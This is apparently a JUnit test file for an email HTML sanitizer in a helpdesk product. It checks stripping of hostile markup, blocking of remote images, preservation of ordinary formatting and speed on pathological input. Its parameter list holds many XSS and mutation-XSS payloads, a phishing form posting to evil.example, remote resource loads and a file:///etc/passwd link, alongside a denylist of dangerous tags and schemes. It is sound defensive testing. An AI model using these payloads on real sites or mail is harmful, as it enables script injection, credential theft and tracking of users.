package io.quarterdeck.desk.channels.email.reading;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import java.util.Locale;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CleanHtmlTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<scr<script>ipt>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<IMG SRC=\"javascript:alert(1)\">",
                "<img src=`javascript:alert(1)`>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
                "<a href=\"java&#10;script:alert(1)\">x</a>",
                "<a href=\"&#106;avascript:alert(1)\">x</a>",
                "<a href=\"\u0001javascript:alert(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"file:///etc/passwd\">x</a>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)>\">",
                "<form action=\"https://evil.example\"><input name=password><button>Sign in</button></form>",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=\"https://evil.example/x.swf\"></object>",
                "<embed src=\"https://evil.example/x.swf\">",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
                "<base href=\"https://evil.example/\">",
                "<link rel=stylesheet href=\"https://evil.example/x.css\">",
                "<style>@import url(https://evil.example/x.css);</style>",
                "<style>body{background:url(https://evil.example/x.png)}</style>",
                "<div style=\"background:url(https://evil.example/x.png)\">x</div>",
                "<div style=\"background:url('javascript:alert(1)')\">x</div>",
                "<div style=\"width:expression(alert(1))\">x</div>",
                "<div style=\"behavior:url(x.htc)\">x</div>",
                "<div style=\"-moz-binding:url(https://evil.example/x.xml)\">x</div>",
                "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">cover</div>",
                "<table background=\"https://evil.example/x.png\"><tr><td>x</td></tr></table>",
                "<img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">",
                "<img srcset=\"https://evil.example/x.png 2x\">",
                "<picture><source srcset=\"https://evil.example/x.png\"><img src=y></picture>",
                "<video poster=\"https://evil.example/x.png\"><source src=\"https://evil.example/x\"></video>",
                "<audio src=\"https://evil.example/x\" autoplay></audio>",
                "<input type=image src=\"https://evil.example/x.png\">",
                "<body onload=alert(1) background=\"https://evil.example/x\">x</body>",
                "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
                "<details open ontoggle=alert(1)><summary>x</summary></details>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<template><script>alert(1)</script></template>",
                "<textarea><script>alert(1)</script></textarea>",
                "<title><script>alert(1)</script></title>",
                "<xmp><script>alert(1)</script></xmp>",
                "<plaintext><script>alert(1)</script>",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<!--><script>alert(1)</script>-->",
                "<p id=location name=cookie>x</p>",
                "<img data-remote-src=\"javascript:alert(1)\">",
                "<img data-cid='x\" onerror=\"alert(1)'>",
                "<a href=\"https://x.example\" target=\"_top\" rel=opener>x</a>",
                "<font color=\"red;background:url(https://evil.example/x)\">x</font>",
                "<isindex action=javascript:alert(1) type=image>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<frameset onload=alert(1)><frame src=https://evil.example></frameset>",
                "<applet code=x></applet>",
                "<dialog open>cover</dialog>",
                "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
                "<a href=\"\\\\evil.example\\share\">x</a>",
                "<img src=\"//evil.example/x.png\">",
                "<img lowsrc=\"https://evil.example/x.png\" dynsrc=\"https://evil.example/y\">"
            })
    void immunity_15_nothing_hostile_is_left(String hostile) {
        var clean = CleanHtml.of("<p>before</p>" + hostile + "<p>after</p>").html();
        var page = Jsoup.parseBodyFragment(clean);

        assertThat(page.select(
                        "script, style, svg, math, form, input, button, iframe, object, embed, meta, base, link, "
                                + "template, textarea, title, video, audio, source, picture, frameset, applet, dialog"))
                .isEmpty();
        for (var element : page.body().getAllElements()) {
            for (var attribute : element.attributes()) {
                var name = attribute.getKey().toLowerCase(Locale.ROOT);
                var value = attribute.getValue().toLowerCase(Locale.ROOT).replaceAll("\\s", "");
                assertThat(name)
                        .doesNotStartWith("on")
                        .isNotIn("id", "name", "srcset", "background", "poster", "action");
                if (!name.equals("title") && !name.equals("alt")) {
                    assertThat(value)
                            .doesNotContain(
                                    "javascript:",
                                    "vbscript:",
                                    "data:text",
                                    "svg",
                                    "expression",
                                    "url(",
                                    "fixed",
                                    "file:");
                }
                if (name.equals("src")) {
                    assertThat(value).startsWith("data:image/");
                }
                if (name.equals("target")) {
                    assertThat(value).isEqualTo("_blank");
                }
            }
        }
        assertThat(clean).contains("before");
    }

    @Test
    void immunity_15_cleaning_twice_changes_nothing_more() {
        var once = CleanHtml.of("<p>x <b>y</b> <a href=\"https://x.example/?a=1&b=2\">z</a> &lt;script&gt;</p>")
                .html();

        assertThat(CleanHtml.of(once).html()).isEqualTo(once);
    }

    @Test
    void immunity_16_remote_images_are_held_back_and_counted() {
        var clean = CleanHtml.of("<p>Hi<img src=\"https://t.example/p.gif?u=1\" width=1 height=1>"
                + "<img src='//t.example/x.png'><img src=cid:logo@x><img src=\"data:image/png;base64,iVBORw0=\"></p>");

        assertThat(clean.blockedImages()).isEqualTo(2);
        var images = Jsoup.parse(clean.html()).select("img");
        assertThat(images.eachAttr("data-remote-src"))
                .containsExactly("https://t.example/p.gif?u=1", "https://t.example/x.png");
        assertThat(images.eachAttr("data-cid")).containsExactly("logo@x");
        assertThat(images.eachAttr("src")).containsExactly("data:image/png;base64,iVBORw0=");
    }

    @Test
    void immunity_16_images_of_backgrounds_are_counted_too() {
        assertThat(CleanHtml.of("<table background='http://t.example/x'><tr>"
                                + "<td style=\"background:url('http://t.example/y')\">x</table>")
                        .blockedImages())
                .isEqualTo(2);
    }

    @Test
    void ordinary_mail_looks_as_it_was_written() {
        var clean = CleanHtml.of("<table width=\"600\" cellpadding=\"4\" bgcolor=\"#eeeeee\">"
                        + "<tr><td align=\"center\" colspan=\"2\">"
                        + "<span style=\"color:#333;font-weight:bold\">Hi</span> "
                        + "<a href=\"mailto:a@example.com\">write</a></td></tr></table>")
                .html();

        assertThat(clean)
                .contains(
                        "width=\"600\"",
                        "cellpadding=\"4\"",
                        "bgcolor=\"#eeeeee\"",
                        "align=\"center\"",
                        "colspan=\"2\"")
                .contains("color:#333")
                .contains("font-weight:bold")
                .contains("noopener", "noreferrer", "nofollow");
    }

    @Test
    void the_quoted_tail_is_folded() {
        var clean = CleanHtml.of("<div>It came.</div><div class=\"gmail_quote\">On Tuesday, Support wrote:"
                        + "<blockquote>Hello</blockquote></div>")
                .html();

        assertThat(Jsoup.parse(clean).select("details").text())
                .isEqualTo("Quoted text On Tuesday, Support wrote: Hello");
        assertThat(clean).startsWith("<div>It came.</div>");
    }

    @Test
    void a_mail_that_is_only_a_quote_is_not_folded() {
        assertThat(CleanHtml.of("<div class=\"gmail_quote\">Hello</div>").html())
                .doesNotContain("details");
    }

    @Test
    void immunity_05_no_html_takes_long_however_it_is_made() {
        assertTimeoutPreemptively(Duration.ofSeconds(30), () -> {
            CleanHtml.of("<div>".repeat(100_000));
            CleanHtml.of("<a href=x>".repeat(50_000));
            CleanHtml.of("<img src=http://x>".repeat(50_000));
            CleanHtml.of("<b style='" + "color:red;".repeat(50_000) + "'>x");
            CleanHtml.of("<<<<".repeat(200_000));
            CleanHtml.of("&".repeat(500_000));
        });
    }
}
